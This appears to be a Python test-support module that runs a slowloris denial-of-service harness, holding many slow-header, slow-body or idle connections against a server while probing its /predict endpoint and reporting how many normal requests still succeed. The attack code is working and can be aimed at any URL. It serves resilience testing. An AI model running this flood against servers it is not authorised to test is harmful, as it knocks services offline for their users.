"""A bounded slowloris harness: slow or idle connections, and a probe of normal requests.

Each attack holds a fixed number of connections for a fixed time; an attacker the server
closes reconnects at once (a real one would), so the pressure lasts the whole run. The
probe starts a normal request on a fresh connection every interval (answered or not: a
stalled server costs every request users would have sent meanwhile) and counts those
answered 200 within the probe timeout. Run it by hand against any server:

    python -m tests.support.slowloris http://127.0.0.1:8000 --image photo.jpg
"""

from __future__ import annotations

import argparse
import asyncio
import json
import threading
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

import requests

Probe = Callable[[requests.Session], requests.Response]
_MAX_PROBES_IN_FLIGHT = 32


@dataclass(frozen=True)
class Attack:
    """`connections` hostile connections of one kind."""

    kind: str  # "headers": a header line per interval; "body": a slow body; "idle"
    connections: int
    interval_s: float = 1.0
    body_rate_bytes_s: int = 10_000
    body_length: int = 5_000_000

    @property
    def name(self) -> str:
        return f"{self.connections} x {self.kind}"


# The attacks of issue 10, class 6.
HEADER_LINES = Attack("headers", 100, interval_s=1.0)
SLOW_BODIES = Attack("body", 16, body_rate_bytes_s=10_000)
IDLE = Attack("idle", 200)


@dataclass
class Outcome:
    """What the probe saw during one attack."""

    attack: str
    probes: int = 0
    answered_in_time: int = 0
    latencies_s: list[float] = field(default_factory=list)
    failures: dict[str, int] = field(default_factory=dict)
    attacker_connections: int = 0
    attackers_cut: int = 0

    @property
    def success_ratio(self) -> float:
        return self.answered_in_time / self.probes if self.probes else 0.0

    def figures(self) -> dict[str, object]:
        """Return the outcome as JSON-ready figures."""
        latencies = sorted(self.latencies_s)
        figures: dict[str, object] = {
            "attack": self.attack,
            "probes": self.probes,
            "answered_within_timeout": self.answered_in_time,
            "success_ratio": round(self.success_ratio, 3),
            "failures": dict(self.failures),
            "attacker_connections": self.attacker_connections,
            "attackers_cut_by_server": self.attackers_cut,
        }
        if latencies:
            figures["p50_s"] = round(latencies[len(latencies) // 2], 3)
            figures["p95_s"] = round(latencies[max(0, int(len(latencies) * 0.95) - 1)], 3)
            figures["max_s"] = round(latencies[-1], 3)
        return figures


def measure(
    base_url: str,
    attack: Attack,
    probe: Probe,
    *,
    warmup_s: float = 3.0,
    duration_s: float = 10.0,
    probe_timeout_s: float = 5.0,
    probe_interval_s: float = 0.2,
) -> Outcome:
    """Hold `attack` for warmup_s + duration_s; probe with normal requests during duration_s."""
    parts = urlsplit(base_url)
    host, port = parts.hostname or "127.0.0.1", parts.port or 80
    outcome = Outcome(attack=attack.name)
    lock = threading.Lock()
    stop = threading.Event()
    connected = threading.Event()
    thread = threading.Thread(
        target=lambda: asyncio.run(
            _attack(host, port, attack, stop=stop, connected=connected, outcome=outcome)
        ),
        name="slowloris",
        daemon=True,
    )
    thread.start()
    try:
        connected.wait(10)
        stop.wait(warmup_s)  # the attack takes hold before the probe starts
        # Probes start on a fixed schedule, whether or not earlier ones were answered, so
        # a stalled server costs as many failures as the requests users would have sent.
        with ThreadPoolExecutor(max_workers=_MAX_PROBES_IN_FLIGHT) as pool:
            end = time.monotonic() + duration_s
            while time.monotonic() < end:
                started = time.monotonic()
                pool.submit(_probe_once, probe, probe_timeout_s, outcome, lock)
                stop.wait(max(0.0, probe_interval_s - (time.monotonic() - started)))
    finally:
        stop.set()
        thread.join(15)
    return outcome


def _probe_once(probe: Probe, timeout_s: float, outcome: Outcome, lock: threading.Lock) -> None:
    started = time.monotonic()
    with requests.Session() as session:  # a fresh connection, as a new client would open
        try:
            response = probe(session)
        except requests.RequestException as error:
            failure = type(error).__name__
        else:
            elapsed = time.monotonic() - started
            if response.status_code == 200 and elapsed <= timeout_s:
                with lock:
                    outcome.probes += 1
                    outcome.answered_in_time += 1
                    outcome.latencies_s.append(elapsed)
                return
            failure = f"status {response.status_code}" if elapsed <= timeout_s else "late"
    with lock:
        outcome.probes += 1
        outcome.failures[failure] = outcome.failures.get(failure, 0) + 1


async def _attack(
    host: str,
    port: int,
    attack: Attack,
    *,
    stop: threading.Event,
    connected: threading.Event,
    outcome: Outcome,
) -> None:
    done = asyncio.Event()
    attackers = [
        asyncio.ensure_future(_attacker(host, port, attack, done, outcome))
        for _ in range(attack.connections)
    ]
    connected.set()
    while not stop.is_set():
        await asyncio.sleep(0.05)
    done.set()
    await asyncio.wait(attackers, timeout=5)
    for task in attackers:
        task.cancel()


async def _attacker(
    host: str, port: int, attack: Attack, done: asyncio.Event, outcome: Outcome
) -> None:
    while not done.is_set():
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            await _pause(done, 0.2)
            continue
        outcome.attacker_connections += 1
        try:
            if await _hold(reader, writer, attack, done):
                outcome.attackers_cut += 1
        except OSError:
            outcome.attackers_cut += 1
        finally:
            writer.close()


async def _hold(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, attack: Attack, done: asyncio.Event
) -> bool:
    """Feed one connection slowly; return True when the server answered or closed it."""
    answered = asyncio.ensure_future(reader.read(65536))
    try:
        if attack.kind == "headers":
            writer.write(b"GET /healthz HTTP/1.1\r\nHost: slowloris\r\n")
            line = 0
            while not done.is_set():
                await writer.drain()
                if await _answered_within(answered, done, attack.interval_s):
                    return True
                writer.write(b"X-Slow-%d: %s\r\n" % (line, b"a" * 20))
                line += 1
        elif attack.kind == "body":
            writer.write(
                b"POST /predict HTTP/1.1\r\nHost: slowloris\r\nContent-Type: image/png\r\n"
                b"Content-Length: %d\r\n\r\n" % attack.body_length
            )
            piece = max(1, attack.body_rate_bytes_s // 10)
            sent = 0
            while not done.is_set() and sent < attack.body_length:
                await writer.drain()
                if await _answered_within(answered, done, 0.1):
                    return True
                writer.write(b"\x89" * piece)
                sent += piece
        else:
            return await _answered_within(answered, done, None)
        return False
    finally:
        answered.cancel()


async def _answered_within(
    answered: asyncio.Future[bytes], done: asyncio.Event, timeout_s: float | None
) -> bool:
    stopped = asyncio.ensure_future(done.wait())
    try:
        finished, _ = await asyncio.wait(
            {answered, stopped}, timeout=timeout_s, return_when=asyncio.FIRST_COMPLETED
        )
    finally:
        stopped.cancel()
    return answered in finished


async def _pause(done: asyncio.Event, seconds: float) -> None:
    try:
        await asyncio.wait_for(done.wait(), seconds)
    except TimeoutError:
        pass


def upload_probe(base_url: str, image: bytes, timeout_s: float = 5.0) -> Probe:
    """Return a probe that posts image to /predict."""

    def probe(session: requests.Session) -> requests.Response:
        files = {"file": ("probe.png", image)}
        return session.post(f"{base_url}/predict", files=files, timeout=timeout_s)

    return probe


def main() -> None:
    """Measure every attack against a running server; print one JSON line per attack."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("base_url")
    parser.add_argument("--image", type=Path, required=True)
    parser.add_argument("--warmup-s", type=float, default=3.0)
    parser.add_argument("--duration-s", type=float, default=10.0)
    args = parser.parse_args()
    probe = upload_probe(args.base_url, args.image.read_bytes())
    for attack in (HEADER_LINES, SLOW_BODIES, IDLE):
        outcome = measure(
            args.base_url, attack, probe, warmup_s=args.warmup_s, duration_s=args.duration_s
        )
        print(json.dumps(outcome.figures()), flush=True)


if __name__ == "__main__":
    main()
